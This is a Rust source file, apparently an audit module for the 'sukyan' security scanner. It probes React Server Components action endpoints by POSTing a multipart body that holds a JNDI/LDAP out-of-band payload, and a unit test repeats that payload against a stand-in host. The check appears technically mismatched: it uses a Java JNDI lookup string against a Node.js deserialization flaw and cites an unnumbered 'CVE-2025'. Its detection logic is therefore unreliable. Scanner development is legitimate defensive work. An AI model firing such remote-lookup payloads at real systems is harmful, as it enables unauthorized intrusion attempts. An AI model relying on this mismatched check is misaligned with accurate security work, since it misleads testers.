//! # react2shell
//!
//! Probes React Server Components' multipart action-dispatch endpoint
//! for the CVE-2025 deserialization RCE class (spec §1, supplemented by
//! SPEC_FULL.md §B): a POST carrying a `next-action` header and a
//! multipart body whose single field holds a JNDI-style OOB payload
//! instead of a serialized argument. Like Log4Shell, a hit can only be
//! confirmed out-of-band.

use async_trait::async_trait;
use tokio_util::sync::CancellationToken;

use sukyan_types::{History, InsertionPoint, InsertionPointType, IssueCode};

use crate::audits::{Audit, AuditContext, AuditKind};
use crate::error::{EngineError, EngineResult};
use crate::http::execute::{ExecuteOptions, HistoryCreationOptions, Request};
use crate::oob::new_oob_test;

const BOUNDARY: &str = "----sukyan-rsc-test";
const ACTION_TEMPLATE: &str = "${jndi:ldap://{domain}/a}";

fn multipart_body(field_value: &str) -> Vec<u8> {
    format!(
        "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"1\"\r\n\r\n{field_value}\r\n--{BOUNDARY}--\r\n"
    )
    .into_bytes()
}

pub struct React2ShellAudit;

#[async_trait]
impl Audit for React2ShellAudit {
    fn kind(&self) -> AuditKind {
        AuditKind::React2Shell
    }

    fn default_concurrency(&self) -> usize {
        5
    }

    fn is_history_level(&self) -> bool {
        true
    }

    fn applies_to(&self, history: &History, _point: &InsertionPoint) -> bool {
        matches!(history.method.as_str(), "POST")
            && history
                .request_headers
                .iter()
                .find(|(k, _)| k.eq_ignore_ascii_case("content-type"))
                .is_some_and(|(_, v)| v.contains("multipart/form-data") || v.contains("text/x-component"))
    }

    async fn run(
        &self,
        ctx: &AuditContext<'_>,
        history: &History,
        _point: &InsertionPoint,
        cancel: &CancellationToken,
    ) -> EngineResult<()> {
        if cancel.is_cancelled() {
            return Err(EngineError::Cancelled);
        }
        if !ctx.dedup.mark_if_new(&history.url, "react2shell", None) {
            return Ok(());
        }

        let oob = ctx.oob.get_url();
        let payload_value = oob.get_value(ACTION_TEMPLATE);
        let body = multipart_body(&payload_value);

        let mut headers = history.request_headers.clone();
        headers.insert("content-type".to_string(), format!("multipart/form-data; boundary={BOUNDARY}"));
        headers.insert("next-action".to_string(), "x".to_string());

        let request = Request { method: "POST".to_string(), url: history.url.clone(), headers, body: Some(body) };
        let options = ExecuteOptions {
            history_options: Some(HistoryCreationOptions::scanner(history.workspace_id)),
            ..ExecuteOptions::default()
        };
        let result = ctx.http.execute(&request, &options).await;
        let originating_history = result.history.map(|h| h.id).unwrap_or(history.id);

        let test = new_oob_test(
            IssueCode::React2ShellRce,
            &oob,
            history.url.clone(),
            Some(sentinel_summary()),
            payload_value,
            originating_history,
            history.workspace_id,
            history.task_id,
            history.scan_id,
        );
        ctx.oob.register(test).await;

        Ok(())
    }
}

fn sentinel_summary() -> String {
    InsertionPoint::new("next-action", InsertionPointType::Header, "x").summary()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn multipart_body_wraps_single_field_with_boundary() {
        let body = multipart_body("${jndi:ldap://x.oob.sukyan.invalid/a}");
        let text = String::from_utf8(body).unwrap();
        assert!(text.starts_with(&format!("--{BOUNDARY}")));
        assert!(text.contains("name=\"1\""));
        assert!(text.trim_end().ends_with(&format!("--{BOUNDARY}--")));
    }

    #[test]
    fn applies_only_to_multipart_or_component_posts() {
        use std::collections::HashMap;
        use sukyan_types::{HistoryId, HistorySource, ResponseData, WorkspaceId};
        let mut headers = HashMap::new();
        headers.insert("content-type".to_string(), "multipart/form-data; boundary=x".to_string());
        let history = History {
            id: HistoryId(1),
            method: "POST".to_string(),
            url: "https://t.example/".to_string(),
            request_headers: headers,
            request_body: None,
            status: 200,
            response_headers: Default::default(),
            response: ResponseData::default(),
            response_size: 0,
            duration: std::time::Duration::from_millis(1),
            source: HistorySource::Scanner,
            workspace_id: WorkspaceId::new(),
            task_id: None,
            scan_id: None,
            scan_job_id: None,
            notes: vec![],
            ws_messages: vec![],
        };
        let audit = React2ShellAudit;
        let point = crate::audits::sentinel_point(&history);
        assert!(audit.applies_to(&history, &point));
    }
}
